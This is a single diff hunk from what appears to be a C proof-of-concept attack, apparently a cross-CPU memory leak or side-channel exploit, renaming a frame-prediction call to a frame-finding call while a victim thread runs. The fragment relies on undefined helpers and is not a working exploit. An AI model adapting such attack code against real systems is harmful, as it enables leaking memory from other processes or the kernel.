@@ -28,7 +28,7 @@ int main(void)
 	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
 	attack_thread(CPU_OF_VICTIM, victim, NULL);
 
-	attack_frame_predict(&leak, &frame);
+	attack_frame_find(&leak, &frame);
 	attack_tell(&stage, STAGE_WARM);
 	attack_await(&stage, STAGE_WARMED, AWAIT_SPIN);
 	attack_say("CPU %d has read it at 0x%lx, and spins in user mode", CPU_OF_VICTIM,
